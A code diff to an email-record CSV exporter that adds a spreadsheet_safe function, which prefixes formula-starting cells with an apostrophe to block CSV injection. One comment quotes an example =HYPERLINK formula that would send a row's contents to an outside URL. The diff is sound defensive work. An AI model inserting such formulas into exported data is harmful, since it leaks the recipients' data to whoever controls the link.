@@ -239,7 +239,27 @@ def warn_damaged(damaged: int) -> None:
               file=sys.stderr)
 
 
+# What makes a spreadsheet program read a cell as a formula.  The CSV is
+# opened in Excel by the auditors it is for, and its cells hold text that
+# came in mail: a subject such as `=HYPERLINK("https://…?"&B2, "Open")`
+# would run there, sending the row's contents off (CSV injection, OWASP).
+# A telephone number such as "+44 20 7946 0000" read as a formula shows as
+# an error.  Such a cell is written with a leading apostrophe; the JSON
+# export and the database keep the text as it was.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(cell: str) -> str:
+    """`cell` as a spreadsheet program shows it as text, never runs it."""
+    return "'" + cell if cell.startswith(_FORMULA_STARTS) else cell
+
+
 def csv_row(document: dict[str, Any]) -> list[str]:
+    """A record's cells under CSV_COLUMNS, each safe to open in a spreadsheet."""
+    return [spreadsheet_safe(cell) for cell in _csv_cells(document)]
+
+
+def _csv_cells(document: dict[str, Any]) -> list[str]:
     recipients = document.get("recipients") or []
 
     def each(key: str) -> str:
